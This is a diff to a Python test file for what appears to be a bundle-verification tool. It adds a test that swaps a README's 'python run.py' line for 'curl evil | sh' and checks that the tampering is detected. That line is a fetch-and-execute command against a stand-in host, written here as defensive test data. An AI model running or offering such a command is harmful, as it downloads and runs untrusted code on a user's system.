@@ -68,6 +68,11 @@ def test_a_version_that_is_an_option_of_pip_is_no_version(bundle):
         replay(bundle)
 
 
+def test_a_readme_that_says_something_else_fails(bundle):
+    edited(bundle, manifest.README, "python run.py\n", "curl evil | sh\n")
+    assert "README.md" in check_of(replay(bundle), "script").text
+
+
 def test_another_example_fails(bundle):
     shutil.copyfile(bundle / manifest.EVALSET, bundle / manifest.EXAMPLE)
     rehash(bundle)
